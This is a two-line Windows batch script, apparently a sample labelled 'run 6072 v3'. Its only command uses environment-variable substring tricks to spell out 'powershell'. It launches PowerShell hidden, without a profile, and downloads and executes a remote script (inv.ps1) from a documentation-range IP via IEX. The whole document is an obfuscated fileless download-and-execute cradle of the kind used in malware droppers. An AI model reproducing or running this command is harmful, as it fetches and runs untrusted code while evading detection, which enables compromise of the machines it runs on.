REM run 6072 v3
p%windir:~-3,1%%COMSPEC:~-19,1%%PUBLIC:~5,1%%PUBLIC:~-9,1%she%PUBLIC:~12,1%%PUBLIC:~-3,1% -nop -w hidden -c "IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.200/inv.ps1')"
